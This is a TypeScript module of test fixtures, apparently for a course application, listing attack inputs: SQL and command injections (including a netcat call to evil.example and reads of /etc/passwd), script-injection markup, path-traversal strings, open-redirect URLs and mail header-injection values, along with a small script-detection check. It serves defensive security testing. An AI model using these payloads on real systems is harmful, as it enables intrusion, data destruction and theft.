/** Attackers' input for a field or an address, by its aim. */
export const injections = {
  sql: [
    "' OR '1'='1",
    "'; DROP TABLE courses; --",
    "x') UNION SELECT version()--",
    '"; SELECT pg_sleep(5); --',
    "\\'; DELETE FROM batches WHERE ''='",
    "1) OR 1=1/*",
    "$$; SELECT 1; $$",
    "E'\\x27 OR true'",
    "%' AND 1=(SELECT COUNT(*) FROM users) AND '%'='",
  ],
  command: [
    "$(touch /tmp/owned)",
    "`id`",
    "; cat /etc/passwd",
    "| nc evil.example 1",
    "&& reboot",
    "#{7*7}",
    "{{7*7}}",
  ],
  /** Input that trips Postgres, JSON or a browser. */
  odd: [
    "\u0000",
    "a\u0000b",
    "\ud800",
    "\udfff\ud800",
    "\uffff",
    "\u202egnp.exe",
    "%00",
    "%ff%fe",
    "%",
    "a".repeat(5000),
  ],
};

/** Markup that would run a script, alone or by breaking out of its surroundings. */
export const scripts = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "</title><svg/onload=alert(1)>",
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  "<!--<script>alert(1)//-->",
  "]]><script>alert(1)</script>",
  "javascript:alert(1)",
  "<a href=javascript:alert(1)>x</a>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "\u2028alert(1)//",
];

const leading = /^(?:href|src|action|formaction)$/i;

/** The icon of every page, written into its address as a picture of ours. */
const icon = '<link rel="icon" href="data:image/svg+xml,';

/** Whether a tag has an attribute that came in from outside: one without quotes, or one that runs its value. */
function isOverrun(tag: string): boolean {
  const quoted = Array.from(tag.matchAll(/\s([\w:-]+)="([^"]*)"/g), ([, name = "", value = ""]) => ({ name, value }));
  const bare = tag.replace(/="[^"]*"/g, "");
  if (tag.startsWith(icon)) return !/^<link rel href type\/?>$/.test(bare);
  return (
    /[\s/]on\w+\s*=|=\s*javascript:|srcdoc|^<iframe\b/i.test(bare) ||
    quoted.some(
      ({ name, value }) => /^on/i.test(name) || (leading.test(name) && /^\s*(?:javascript|data):/i.test(value)),
    )
  );
}

/** Whether markup holds an element or attribute that came in from outside, rather than as text. */
export function runsScript(markup: string): boolean {
  return /<script[^<>]*>\s*alert\(1\)/i.test(markup) || (markup.match(/<[a-z!/][^<>]*>/gi) ?? []).some(isOverrun);
}

/** Targets of path traversal, in the spellings that servers have fallen for. */
export const climbing = [
  "../../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "%2e%2e/%2e%2e/etc/passwd",
  "..%252f..%252fetc%252fpasswd",
  "....//....//etc/passwd",
  "..\\..\\etc\\passwd",
  "..%5c..%5cetc%5cpasswd",
  "%c0%ae%c0%ae/etc/passwd",
  "..%00/etc/passwd",
  "lecture-1.mp4%00.png",
  "/etc/passwd",
  "file:///etc/passwd",
];

/** Addresses of other sites, in the spellings that have passed for paths of one's own. */
export const elsewhere = [
  "https://evil.example",
  "//evil.example",
  "///evil.example",
  "/\\evil.example",
  "\\\\evil.example",
  "/\t/evil.example",
  "/\n/evil.example",
  "\u0000//evil.example",
  "%2f%2fevil.example",
  "/%2fevil.example",
  "/%5cevil.example",
  "/%252fevil.example",
  "/%09/evil.example",
  "/..//evil.example",
  "/.//evil.example",
  "/%2e%2e//evil.example",
  "javascript:alert(1)",
  "data:text/html,x",
  "https:evil.example",
  "http:/\\evil.example",
  "/@evil.example:80//evil.example/..//",
];

/** Input that adds headers to a mail or an answer that includes it unescaped. */
export const headerBreaks = [
  "Ayesha\r\nBcc: victim@example.com",
  "Ayesha\nBcc: victim@example.com",
  "Ayesha\rBcc: victim@example.com",
  "Ayesha\u2028Bcc: victim@example.com",
  "Ayesha\u0085Bcc: victim@example.com",
  "Ayesha\u0000\r\n\r\nA body of its own",
  "Ayesha\u000bBcc: victim@example.com",
];
